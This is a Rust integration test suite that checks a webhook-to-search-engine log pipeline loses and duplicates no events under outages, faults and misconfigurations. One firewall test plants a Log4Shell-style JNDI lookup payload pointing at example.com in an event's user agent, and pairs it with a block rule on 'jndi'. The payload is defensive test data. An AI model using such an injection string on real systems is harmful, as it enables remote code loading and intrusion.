//! No event lost and none duplicated, whatever fails between the webhook and the engine.

use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use chrono::{SecondsFormat, TimeDelta, Utc};
use reqwest::Method;
use serde_json::{Value, json};
use support::engine::DataStream;
use support::events::{Events, json_lines, log_ids};
use support::parked;
use support::proxy::Fault;
use support::runtime::{Function, InvokeError, eventually};
use support::stack::{self, EngineKind};

use crate::world::{
    SHORT, WebhookResponse, World, deliver, deliver_within, events, poll, post, post_within,
};

on_both_engines![
    acknowledged_event_is_stored_once_whatever_fails,
    short_fault_is_retried_without_parking,
    long_outage_parks_events_until_redrive_stores_them,
    killed_webhook_has_acknowledged_only_durable_batches,
    concurrent_posts_and_poll_leave_one_document_per_event,
    refused_event_becomes_error_document_and_harms_no_other,
    proxy_that_rejects_every_request_parks_events_until_it_stops,
    blocked_index_parks_events_until_it_is_writable,
    missing_pipeline_parks_events_until_it_is_there,
    index_in_place_of_the_data_stream_parks_events_until_it_is_gone,
    strict_mapping_parks_events_until_it_is_mended,
    shard_limit_parks_events_until_there_is_room,
    firewall_that_blocks_one_event_harms_no_other,
    refused_event_is_stored_once_its_cause_is_mended,
    unwritable_message_becomes_dead_letter_byte_for_byte,
    redrive_returns_only_messages_it_could_not_write,
    redrive_writes_all_messages_in_one_request,
    outage_is_remembered_until_a_probe_succeeds,
    event_too_large_for_a_message_harms_no_other_and_is_kept,
];

async fn acknowledged_event_is_stored_once_whatever_fails(kind: EngineKind) {
    let world = World::new(kind).await;
    let redrive = world.redrive();
    let mut source = events();
    let mut sent = Vec::new();
    for fault in [
        Fault::Refuse,
        Fault::Reset,
        Fault::Hang,
        Fault::Slow(Duration::from_millis(700)),
        Fault::Status(503),
        Fault::Status(429),
        Fault::Items(429),
        Fault::Items(500),
        Fault::Html,
        Fault::CutAnswer,
        Fault::CutAfterWrite,
        Fault::Mixed(1),
    ] {
        let failed = world.proxy.failed();
        world.proxy.fail(fault).await;
        // New processes, which remember no earlier outage.
        let webhook = world.function("webhook", 4);
        let count = if matches!(fault, Fault::Mixed(_)) { 16 } else { 4 };
        let batches: Vec<_> = (0..count).map(|_| source.take(25)).collect();
        let bodies: Vec<_> = batches.iter().map(|batch| json_lines(batch)).collect();
        let posts = bodies.iter().map(|body| deliver_within(&webhook, body.as_bytes(), SHORT));
        futures_util::future::join_all(posts).await;
        assert!(fault == Fault::Refuse || world.proxy.failed() > failed, "{fault:?} never struck");
        world.proxy.heal().await;
        world.queues.drain(&redrive).await;
        sent.extend(log_ids(&batches.concat()));
        world.stream.assert_holds_exactly(&sent).await;
    }
    assert_eq!(world.queues.dead_letters().await, 0);
}

async fn short_fault_is_retried_without_parking(kind: EngineKind) {
    let world = World::new(kind).await;
    let webhook = world.webhook();
    let mut source = events();
    // The process is warm, so that its request arrives while the fault lasts.
    let first = source.take(1);
    deliver(&webhook, json_lines(&first).as_bytes()).await;
    let mut sent = log_ids(&first);
    for fault in [Fault::Refuse, Fault::Status(503), Fault::Items(429), Fault::CutAfterWrite] {
        let batch = source.take(50);
        let failed = world.proxy.failed();
        world.proxy.fail(fault).await;
        let body = json_lines(&batch);
        let healed = async {
            tokio::time::sleep(Duration::from_millis(300)).await;
            // A refused connection brings no request that could be counted.
            if fault != Fault::Refuse {
                eventually("the fault strikes", async || world.proxy.failed() > failed).await;
            }
            world.proxy.heal().await;
        };
        let (answer, ()) = tokio::join!(post(&webhook, body.as_bytes()), healed);
        assert_eq!(answer.unwrap().status, 200, "{fault:?}");
        sent.extend(log_ids(&batch));
        assert_eq!(world.queues.parked().await, 0, "{fault:?}");
        world.stream.assert_holds_exactly(&sent).await;
    }
}

async fn long_outage_parks_events_until_redrive_stores_them(kind: EngineKind) {
    let world = World::new(kind).await;
    let webhook = world.function("webhook", 4);
    let redrive = world.redrive();
    let mut source = events();
    let mut batches: Vec<_> = (0..6).map(|_| source.take(50)).collect();
    // Noise hardly compresses: this batch needs more than one message.
    let mut large = source.take(100);
    for event in &mut large {
        let noise: String = (0..16_000).map(|_| fastrand::alphanumeric()).collect();
        event["data"]["details"] = json!({ "noise": noise });
    }
    batches.push(large);

    world.proxy.fail(Fault::Refuse).await;
    let bodies: Vec<_> = batches.iter().map(|batch| json_lines(batch)).collect();
    let posts = bodies.iter().map(|body| post(&webhook, body.as_bytes()));
    for answer in futures_util::future::join_all(posts).await {
        let answer = answer.unwrap();
        assert_eq!(answer.status, 200, "{answer:?}");
    }
    let parked = world.queues.parked().await;
    assert!(parked > batches.len(), "the large batch was not split: {parked} messages");
    // During the outage, redrive returns the messages to the queue.
    world.queues.deliver_batch(&redrive, SHORT).await;
    assert_eq!(world.queues.parked().await, parked);
    assert_eq!(world.stream.count().await, 0);

    world.proxy.heal().await;
    world.queues.drain(&redrive).await;
    world.stream.assert_holds_exactly(&log_ids(&batches.concat())).await;
    assert_eq!(world.queues.dead_letters().await, 0);
}

async fn killed_webhook_has_acknowledged_only_durable_batches(kind: EngineKind) {
    let world = World::new(kind).await;
    let webhook = world.function("webhook", 8);
    let redrive = world.redrive();
    let mut source = events();
    let batches: Vec<_> = (0..200).map(|_| source.take(5)).collect();
    let bodies: Vec<_> = batches.iter().map(|batch| json_lines(batch)).collect();
    // Refused items cause retries and parked messages: many points at which a kill can strike.
    world.proxy.fail(Fault::Items(429)).await;

    let done = AtomicBool::new(false);
    let killer = async {
        // Counted in requests, so that a slow machine makes progress between two kills.
        while !done.load(Ordering::Relaxed) {
            let strike = world.proxy.requests() + fastrand::u64(1..12);
            while world.proxy.requests() < strike && !done.load(Ordering::Relaxed) {
                tokio::time::sleep(Duration::from_millis(2)).await;
            }
            tokio::time::sleep(Duration::from_millis(fastrand::u64(0..60))).await;
            webhook.kill();
        }
    };
    // One attempt each: a batch acknowledged now has to be complete without a repeat.
    let posts = async {
        let posts = bodies.iter().map(|body| post_within(&webhook, body.as_bytes(), SHORT));
        let answers = futures_util::future::join_all(posts).await;
        done.store(true, Ordering::Relaxed);
        answers
    };
    let (answers, ()) = tokio::join!(posts, killer);
    let is_ok = |answer: &Result<_, _>| matches!(answer, Ok(WebhookResponse { status: 200, .. }));
    let acknowledged: Vec<bool> = answers.iter().map(is_ok).collect();
    let died = answers.iter().filter(|answer| matches!(answer, Err(InvokeError::Died))).count();
    assert!(died >= 10, "only {died} of 200 were killed");
    assert!(acknowledged.contains(&true), "no batch was acknowledged");

    world.proxy.heal().await;
    world.queues.drain(&redrive).await;
    let copies = world.stream.copies().await;
    for (batch, acknowledged) in batches.iter().zip(&acknowledged) {
        let there = log_ids(batch).iter().filter(|id| copies.contains_key(*id)).count();
        assert!(!acknowledged || there == batch.len(), "acknowledged, but {there} of 5 are there");
    }
    // The sender repeats the others.
    for (body, _) in bodies.iter().zip(&acknowledged).filter(|(_, acknowledged)| !**acknowledged) {
        deliver(&webhook, body.as_bytes()).await;
    }
    world.stream.assert_holds_exactly(&log_ids(&batches.concat())).await;
}

async fn concurrent_posts_and_poll_leave_one_document_per_event(kind: EngineKind) {
    let world = World::new(kind).await;
    let webhook = world.function("webhook", 50);
    let poller = world.poller();
    let events = world.tenant.add_next(&mut events(), 100);
    let body = json_lines(&events);

    let posts = (0..50).map(|_| post(&webhook, body.as_bytes()));
    let (answers, polled) = tokio::join!(futures_util::future::join_all(posts), poll(&poller));
    for answer in answers {
        assert_eq!(answer.unwrap().status, 200);
    }
    // So many writers may be too much for a small engine. Then the next tick has to succeed.
    if polled.is_err() {
        poll(&poller).await.unwrap();
    }
    assert!(world.tenant.counters().pages > 0, "the poller read no event");
    world.queues.drain(&world.redrive()).await;
    world.stream.assert_holds_exactly(&log_ids(&events)).await;
}

async fn refused_event_becomes_error_document_and_harms_no_other(kind: EngineKind) {
    let world = World::new(kind).await;
    let webhook = world.webhook();
    let events = events().take(40);
    let body = json_lines(&events);
    // About half of the items are refused, then about half of their error documents.
    world.proxy.fail(Fault::Items(400)).await;
    let answer = post(&webhook, body.as_bytes()).await.unwrap();
    assert_eq!(answer.status, 200, "{answer:?}\n{}", webhook.last_logs());
    // On a slow machine some events may have been parked for lack of time.
    world.proxy.heal().await;
    world.queues.drain(&world.redrive()).await;

    let documents = world.stream.documents().await;
    let (refused, good): (Vec<_>, Vec<_>) =
        documents.iter().partition(|hit| hit["_source"]["event"]["kind"] == "pipeline_error");
    assert!(!refused.is_empty() && !good.is_empty(), "{answer:?}\n{}", webhook.last_logs());
    let mut kept: Vec<String> =
        good.iter().map(|hit| hit["_id"].as_str().unwrap().to_owned()).collect();
    for hit in &refused {
        let document = &hit["_source"];
        assert!(document["error"]["message"].is_string(), "{document}");
        // One without the event says that the dead-letter queue has it.
        let Some(original) = document["event"]["original"].as_str() else { continue };
        let original: Value = serde_json::from_str(original).unwrap();
        kept.push(original["log_id"].as_str().unwrap().to_owned());
    }
    for body in world.queues.dead_bodies().await {
        kept.extend(parked::unpack(&body).1.iter().map(|event| {
            let event: Value = serde_json::from_slice(event).unwrap();
            event["log_id"].as_str().unwrap().to_owned()
        }));
    }
    kept.sort_unstable();
    assert_eq!(kept.len(), events.len(), "{answer:?}: {kept:?}");
    assert_eq!(kept, log_ids(&events), "each event once: stored, as an error, or a dead letter");
}

async fn unwritable_message_becomes_dead_letter_byte_for_byte(kind: EngineKind) {
    let world = World::with_receives(kind, 2).await;
    let webhook = world.webhook();
    let redrive = world.redrive();
    let events = events().take(10);
    world.proxy.fail(Fault::Refuse).await;
    deliver_within(&webhook, json_lines(&events).as_bytes(), SHORT).await;
    for _ in 0..2 {
        let (received, failed) = world.queues.deliver_batch(&redrive, SHORT).await;
        assert_eq!((received, failed), (1, 1), "{}", redrive.last_logs());
    }
    // The third receive makes it a dead letter.
    assert_eq!(world.queues.deliver_batch(&redrive, SHORT).await, (0, 0));
    assert_eq!(world.queues.parked().await, 0);
    let bodies = world.queues.dead_bodies().await;
    assert_eq!(bodies.len(), 1);
    let (header, parked) = parked::unpack(&bodies[0]);
    assert_eq!(header["input"], "http_endpoint");
    let sent: Vec<Vec<u8>> = events.iter().map(|event| event.to_string().into_bytes()).collect();
    assert_eq!(parked, sent, "byte for byte");
}

async fn redrive_returns_only_messages_it_could_not_write(kind: EngineKind) {
    let world = World::new(kind).await;
    let webhook = world.function("webhook", 4);
    let redrive = world.redrive();
    let mut source = events();
    let batches: Vec<_> = (0..12).map(|_| source.take(1)).collect();
    world.proxy.fail(Fault::Refuse).await;
    let bodies: Vec<_> = batches.iter().map(|batch| json_lines(batch)).collect();
    futures_util::future::join_all(
        bodies.iter().map(|body| deliver_within(&webhook, body.as_bytes(), SHORT)),
    )
    .await;
    world.queues.park("not one of our messages").await;

    // About half of the items lack a privilege, and the foreign message always fails.
    world.proxy.fail(Fault::Items(403)).await;
    let mut deliveries = Vec::new();
    for _ in 0..4 {
        deliveries.push(world.queues.deliver_batch(&redrive, SHORT).await);
    }
    let is_partial = |(received, failed): &(usize, usize)| (2..*received).contains(failed);
    assert!(deliveries.iter().any(is_partial), "(received, failed): {deliveries:?}");
    world.proxy.heal().await;
    for _ in 0..5 {
        world.queues.deliver_batch(&redrive, SHORT).await;
    }
    assert_eq!(world.queues.parked().await + world.queues.dead_letters().await, 1);
    world.stream.assert_holds_exactly(&log_ids(&batches.concat())).await;
}

async fn redrive_writes_all_messages_in_one_request(kind: EngineKind) {
    let world = World::new(kind).await;
    let redrive = world.redrive();
    let mut source = events();
    let header = json!({
        "version": 1,
        "input": "http_endpoint",
        "received_at": Utc::now().to_rfc3339_opts(SecondsFormat::Millis, true),
    });
    let mut park = async || {
        let batch = source.take(5);
        let texts: Vec<String> = batch.iter().map(Value::to_string).collect();
        world.queues.park(&parked::pack(&header, texts.iter().map(String::as_bytes))).await;
        batch
    };
    // The first write makes the data stream, and asks for its backing indices.
    let mut sent = park().await;
    world.queues.drain(&redrive).await;
    for _ in 0..6 {
        sent.extend(park().await);
    }
    world.queues.park("not one of our messages").await;
    let before = world.proxy.requests();
    assert_eq!(world.queues.deliver_batch(&redrive, SHORT).await, (7, 1));
    assert_eq!(world.proxy.requests() - before, 1, "{}", redrive.last_logs());
    world.stream.assert_holds_exactly(&log_ids(&sent)).await;
}

async fn outage_is_remembered_until_a_probe_succeeds(kind: EngineKind) {
    let world = World::new(kind).await;
    let webhook = world.webhook();
    let mut source = events();
    let mut sent = source.take(5);
    world.proxy.fail(Fault::Status(503)).await;
    let answer = post_within(&webhook, json_lines(&sent).as_bytes(), SHORT).await.unwrap();
    assert_eq!((answer.status, &answer.body["parked"]), (200, &json!(5)), "{answer:?}");

    // While the outage is remembered, the engine is not asked, whether it is back or not.
    world.proxy.heal().await;
    let before = world.proxy.requests();
    let batch = source.take(5);
    let answer = post(&webhook, json_lines(&batch).as_bytes()).await.unwrap();
    assert_eq!((answer.status, &answer.body["parked"]), (200, &json!(5)), "{answer:?}");
    assert_eq!(answer.body["received"], 5);
    sent.extend(batch);
    let answer = post(&webhook, b"not a single event").await.unwrap();
    assert_eq!(answer.status, 400, "{answer:?}");
    assert_eq!(world.proxy.requests(), before);

    // The probe comes after 30 s, and its success ends the outage for the next batch, too.
    tokio::time::sleep(Duration::from_secs(31)).await;
    for _ in 0..2 {
        let batch = source.take(5);
        let answer = post(&webhook, json_lines(&batch).as_bytes()).await.unwrap();
        assert_eq!((answer.status, &answer.body["stored"]), (200, &json!(5)), "{answer:?}");
        sent.extend(batch);
    }
    assert!(webhook.logs().contains("the engine takes events again"), "{}", webhook.last_logs());
    world.queues.drain(&world.redrive()).await;
    world.stream.assert_holds_exactly(&log_ids(&sent)).await;
}

async fn event_too_large_for_a_message_harms_no_other_and_is_kept(kind: EngineKind) {
    let world = World::new(kind).await;
    let webhook = world.webhook();
    let redrive = world.redrive();
    let mut events = events().take(3);
    let noise = || (0..400).map(|_| fastrand::alphanumeric()).collect::<String>();
    let texts: Vec<String> = std::iter::repeat_with(noise).take(4_000).collect();
    events[1]["data"]["details"] = json!({ "noise": texts });
    world.proxy.fail(Fault::Refuse).await;
    let answer = post(&webhook, json_lines(&events).as_bytes()).await.unwrap();
    assert_eq!((answer.status, &answer.body["parked"]), (200, &json!(3)), "{answer:?}");
    let parts = world.queues.dead_letters().await;
    assert!(parts > 1, "{parts} parts\n{}", webhook.last_logs());

    // Moved back, the parts are put together.
    world.proxy.heal().await;
    for part in world.queues.dead_bodies().await {
        world.queues.park(&part).await;
    }
    world.queues.drain(&redrive).await;
    world.stream.assert_holds_exactly(&log_ids(&events)).await;
}

/// Events of this moment: nobody has tried to store them for long.
fn fresh_events(count: usize) -> Vec<Value> {
    Events::new(fastrand::u64(..), Utc::now()).take(count)
}

/// Posts a batch that the operator keeps from being stored: it is parked, its cause is logged once and
/// rings, and there it stays.
async fn assert_waits_for_the_operator(
    world: &World,
    stream: &DataStream,
    [webhook, redrive]: [&Function; 2],
    batch: &[Value],
    cause: &str,
) {
    let answer = post_within(webhook, json_lines(batch).as_bytes(), SHORT).await.unwrap();
    assert_eq!(answer.status, 200, "{answer:?}\n{}", webhook.last_logs());
    assert_eq!(answer.body["parked"], batch.len(), "{answer:?}\n{}", webhook.last_logs());
    eventually("the metrics are written", async || {
        webhook.logs().contains("\"EngineMisconfigured\":1")
    })
    .await;
    let logs = webhook.logs();
    assert_eq!(logs.matches(cause).count(), 1, "{cause}:\n{logs}");

    let parked = world.queues.parked().await;
    assert!(parked > 0, "{cause}");
    let (received, failed) = world.queues.deliver_batch(redrive, SHORT).await;
    assert_eq!(received, failed, "{cause}:\n{}", redrive.last_logs());
    assert_eq!(world.queues.parked().await, parked, "{cause}");
    assert_eq!(stream.count().await, 0, "{cause}");
    assert_eq!(world.queues.dead_letters().await, 0, "{cause}");
}

/// The cause is gone: redrive stores each event once.
async fn assert_is_stored_once(
    world: &World,
    stream: &DataStream,
    redrive: &Function,
    batch: &[Value],
) {
    world.queues.drain(redrive).await;
    stream.assert_holds_exactly(&log_ids(batch)).await;
    assert_eq!(world.queues.dead_letters().await, 0);
}

async fn proxy_that_rejects_every_request_parks_events_until_it_stops(kind: EngineKind) {
    for status in [301, 400, 403, 404, 413] {
        let world = World::new(kind).await;
        let (webhook, redrive) = (world.webhook(), world.redrive());
        let batch = fresh_events(20);
        world.proxy.fail(Fault::Page(status)).await;
        let cause = format!("HTTP {status}, not from the engine");
        let functions = [&webhook, &redrive];
        assert_waits_for_the_operator(&world, &world.stream, functions, &batch, &cause).await;
        assert!(world.proxy.failed() <= 4, "it asked {} times", world.proxy.failed());
        world.proxy.heal().await;
        assert_is_stored_once(&world, &world.stream, &redrive, &batch).await;
    }
}

/// The same with a setting or mapping of the data stream that keeps events from being stored.
async fn parks_events_while_the_stream_is(
    kind: EngineKind,
    path: &str,
    broken: Value,
    mended: Value,
    cause: &str,
) {
    let world = World::new(kind).await;
    let (webhook, redrive) = (world.webhook(), world.redrive());
    let mut batch = fresh_events(20);
    for event in &mut batch {
        event["data"]["not_in_the_mapping"] = json!("x");
    }
    configure(&world.stream, path, broken).await;
    let functions = [&webhook, &redrive];
    assert_waits_for_the_operator(&world, &world.stream, functions, &batch, cause).await;
    configure(&world.stream, path, mended).await;
    assert_is_stored_once(&world, &world.stream, &redrive, &batch).await;
}

async fn configure(stream: &DataStream, path: &str, body: Value) {
    let path = format!("{}/{path}", stream.name);
    let answer = stream.engine.call(Method::PUT, &path, Some(body)).await;
    assert_eq!(answer["acknowledged"], true, "{answer}");
}

async fn blocked_index_parks_events_until_it_is_writable(kind: EngineKind) {
    let blocked = |is_blocked: bool| json!({ "index.blocks.write": is_blocked });
    let cause = "HTTP 403 cluster_block_exception: index [";
    parks_events_while_the_stream_is(kind, "_settings", blocked(true), blocked(false), cause).await;
}

async fn missing_pipeline_parks_events_until_it_is_there(kind: EngineKind) {
    // Default pipelines are turned off.
    let pipeline = |name: Value| json!({ "index.final_pipeline": name });
    let cause = "HTTP 400 illegal_argument_exception: pipeline with id [not-there] does not exist";
    let (broken, mended) = (pipeline(json!("not-there")), pipeline(Value::Null));
    parks_events_while_the_stream_is(kind, "_settings", broken, mended, cause).await;
}

async fn index_in_place_of_the_data_stream_parks_events_until_it_is_gone(kind: EngineKind) {
    let world = World::new(kind).await;
    let namespace = stack::unique("plain");
    let stream = DataStream::new(world.stream.engine.clone(), &namespace);
    // As if nothing had been installed: Elasticsearch's built-in template for `logs-*-*` makes data streams.
    let path = format!("_index_template/{namespace}");
    let template = json!({ "index_patterns": [stream.name], "priority": 501 });
    stream.engine.call(Method::PUT, &path, Some(template)).await;
    let changes = [("DATA_STREAM_NAMESPACE", namespace.as_str())];
    let webhook = world.function_with("webhook", 1, &changes);
    let redrive = world.function_with("redrive", 1, &changes);
    let batch = fresh_events(20);
    post(&webhook, json_lines(&batch).as_bytes()).await.unwrap();
    let cause = format!("HTTP 400 not_a_data_stream: {} is an index", stream.name);
    assert!(webhook.logs().contains(&cause), "{}", webhook.logs());
    assert!(world.queues.parked().await > 0);
    stream.engine.call(Method::DELETE, &path, None).await;
    stream.engine.call(Method::DELETE, &stream.name, None).await;
    let stream = DataStream::create(kind, &namespace).await;
    assert_is_stored_once(&world, &stream, &redrive, &batch).await;
}

async fn strict_mapping_parks_events_until_it_is_mended(kind: EngineKind) {
    let dynamic = |dynamic: Value| json!({ "dynamic": dynamic });
    let cause = "HTTP 400 strict_dynamic_mapping_exception [auth0.logs.data";
    let (broken, mended) = (dynamic(json!("strict")), dynamic(json!(false)));
    parks_events_while_the_stream_is(kind, "_mapping", broken, mended, cause).await;
}

async fn shard_limit_parks_events_until_there_is_room(kind: EngineKind) {
    let world = World::new(kind).await;
    // A stream that does not exist yet, and a template by which it needs more shards than a node may
    // have: 1,000. Lowering the limit would fail the tests that run at the same time.
    let namespace = stack::unique("limit");
    let stream = DataStream::prepare(kind, &namespace).await;
    let template = format!("_index_template/{namespace}");
    let body = json!({
        "index_patterns": [stream.name],
        "priority": 1_000,
        "data_stream": {},
        "template": { "settings": { "number_of_shards": 1_024, "number_of_replicas": 1 } },
    });
    let installed = stream.engine.call(Method::PUT, &template, Some(body)).await;
    assert_eq!(installed["acknowledged"], true, "{installed}");
    let changes = [("DATA_STREAM_NAMESPACE", namespace.as_str())];
    let webhook = world.function_with("webhook", 1, &changes);
    let redrive = world.function_with("redrive", 1, &changes);
    let batch = fresh_events(20);
    let cause = "this action would add [2048]";
    assert_waits_for_the_operator(&world, &stream, [&webhook, &redrive], &batch, cause).await;
    let deleted = stream.engine.call(Method::DELETE, &template, None).await;
    assert_eq!(deleted["acknowledged"], true, "{deleted}");
    assert_is_stored_once(&world, &stream, &redrive, &batch).await;
}

async fn firewall_that_blocks_one_event_harms_no_other(kind: EngineKind) {
    let world = World::new(kind).await;
    let webhook = world.webhook();
    let mut batch = fresh_events(20);
    batch[7]["data"]["user_agent"] = json!("${jndi:ldap://example.com/x}");
    world.proxy.fail(Fault::Block("jndi")).await;
    deliver(&webhook, json_lines(&batch).as_bytes()).await;
    world.queues.drain(&world.redrive()).await;

    // The firewall blocks the event's text in an error document, too.
    let blocked = batch.remove(7);
    let bodies = world.queues.dead_bodies().await;
    assert_eq!(bodies.len(), 1, "{}", webhook.last_logs());
    let (header, events) = parked::unpack(&bodies[0]);
    assert_eq!(header["reason"], "HTTP 403, not from the engine");
    assert_eq!(events, [blocked.to_string().into_bytes()]);
    let id = format!("{}-dead-letter", log_ids(&[blocked])[0]);
    world.stream.assert_holds_exactly(&[log_ids(&batch), vec![id]].concat()).await;
    assert!(!webhook.logs().contains("jndi"), "{}", webhook.logs());
}

async fn refused_event_is_stored_once_its_cause_is_mended(kind: EngineKind) {
    let world = World::new(kind).await;
    let webhook = world.webhook();
    // They have been refused for so long that they are set aside.
    let mut batch = Events::new(fastrand::u64(..), Utc::now() - TimeDelta::hours(2)).take(3);
    for event in &mut batch {
        event["data"]["not_in_the_mapping"] = json!("x");
        // With fields, other members of details are not in the mapping either.
        event["data"]["details"] = json!({});
    }
    let body = json_lines(&batch);
    configure(&world.stream, "_mapping", json!({ "dynamic": "strict" })).await;
    let answer = post(&webhook, body.as_bytes()).await.unwrap();
    assert_eq!(answer.body["rejected"], 3, "{answer:?}\n{}", webhook.last_logs());
    let errors: Vec<String> = log_ids(&batch).iter().map(|id| format!("{id}-refused")).collect();
    world.stream.assert_holds_exactly(&errors).await;
    let line = "the engine rejected events";
    assert_eq!(webhook.logs().matches(line).count(), 1, "{}", webhook.logs());

    configure(&world.stream, "_mapping", json!({ "dynamic": false })).await;
    deliver(&webhook, body.as_bytes()).await;
    world.stream.assert_holds_exactly(&[errors, log_ids(&batch)].concat()).await;
}
